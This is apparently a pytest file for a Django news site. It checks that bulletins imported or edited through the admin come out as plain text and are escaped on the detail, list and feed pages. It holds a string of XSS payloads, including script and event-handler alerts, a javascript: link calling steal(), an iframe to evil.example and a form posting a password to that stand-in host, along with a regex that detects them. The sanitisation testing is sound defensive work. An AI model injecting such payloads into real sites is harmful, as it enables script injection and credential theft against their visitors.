"""Hostile HTML in a bulletin never reaches a reader's browser as markup: not through the
import pipeline, not through the admin. Bodies are stored as plain text (nh3 + lxml) and
every page escapes what it prints."""

import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from news.models import Bulletin
from news.tests.factories import BulletinFactory

SAMPLE = Path(__file__).resolve().parents[2] / "demo" / "bulletins" / "001_tender_gangnan_road.txt"
PAYLOAD = (
    '<script>alert("x1")</script>'
    '<img src="x" onerror="alert(\'x2\')">'
    '<a href="javascript:alert(\'x3\')" onclick="steal()">点击查看附件</a>'
    '<iframe src="https://evil.example/x4"></iframe>'
    '<div style="position:fixed;top:0;left:0;width:100%">覆盖层文字</div>'
    "<style>body{display:none}</style>"
    '<svg onload="alert(\'x5\')"><circle r="1"/></svg>'
    '<object data="evil.swf"></object><embed src="evil.swf">'
    '<form action="https://evil.example"><input name="pwd"></form>'
)
FORBIDDEN = re.compile(
    r"<script>alert|onerror=|onclick=|onload=|javascript:|<iframe|position:fixed|"
    r"display:none|evil\.example|<object|<embed|evil\.swf|name=\"pwd\"",
    re.IGNORECASE,
)


def _assert_neutral(page: str) -> None:
    # The site's own scripts and styles are allowed; nothing of the payload is.
    found = FORBIDDEN.findall(page)
    assert not found, found


@pytest.mark.django_db
def test_through_the_import_pipeline(tmp_path, client):
    text = SAMPLE.read_text(encoding="utf-8")
    lines = text.split("\n")
    body_line = next(i for i, line in enumerate(lines) if "工程" in line and i > 5)
    lines[body_line] = lines[body_line] + PAYLOAD
    html_page = (
        '<!DOCTYPE html><html><head><meta charset="utf-8"><title>x</title></head><body>'
        + "".join(f"<p>{line}</p>" for line in lines)
        + "</body></html>"
    )
    (tmp_path / "hostile.html").write_text(html_page, encoding="utf-8")
    (tmp_path / "hostile.txt").write_text("\n".join(lines), encoding="utf-8")
    call_command("import_bulletins", str(tmp_path), "--allow-near-duplicates", stdout=None)
    bulletins = list(Bulletin.objects.all())
    assert bulletins, "the hostile pages still import (their text is the news)"
    for bulletin in bulletins:
        assert _only_text(bulletin.body), bulletin.body
        _assert_neutral(client.get(bulletin.get_absolute_url()).content.decode())
    _assert_neutral(client.get(reverse("bulletin-list")).content.decode())
    _assert_neutral(client.get("/bulletins/feed/rss/").content.decode())


def _only_text(body: str) -> bool:
    return not re.search(r"<\s*[a-z]", body, re.IGNORECASE)


@pytest.mark.django_db
def test_through_the_admin(staff_client, client):
    bulletin = BulletinFactory()
    url = reverse("admin:news_bulletin_change", args=[bulletin.pk])
    form = {
        "title": "港南路改造<script>alert('t')</script>",
        "category": bulletin.category_id,
        "region": bulletin.region_id,
        "published_at_0": "2024-10-12",
        "published_at_1": "09:00:00",
        "status": "published",
        "body": f"<p>第一段{PAYLOAD}</p><p>第二段</p>",
        "source_url": "javascript:alert('u')",
        "credits": "{}",
        "contacts-TOTAL_FORMS": "0",
        "contacts-INITIAL_FORMS": "0",
    }
    response = staff_client.post(url, form)
    if response.status_code == 200:  # a javascript: source URL is refused as invalid
        assert "source_url" in response.content.decode()
        form["source_url"] = ""
        response = staff_client.post(url, form)
    assert response.status_code == 302, response.content.decode()[:1500]
    bulletin.refresh_from_db()
    assert _only_text(bulletin.body) and "第一段" in bulletin.body and "第二段" in bulletin.body
    page = client.get(bulletin.get_absolute_url()).content.decode()
    _assert_neutral(page)
    assert "<script>alert('t')" not in page  # the title is escaped where it is printed
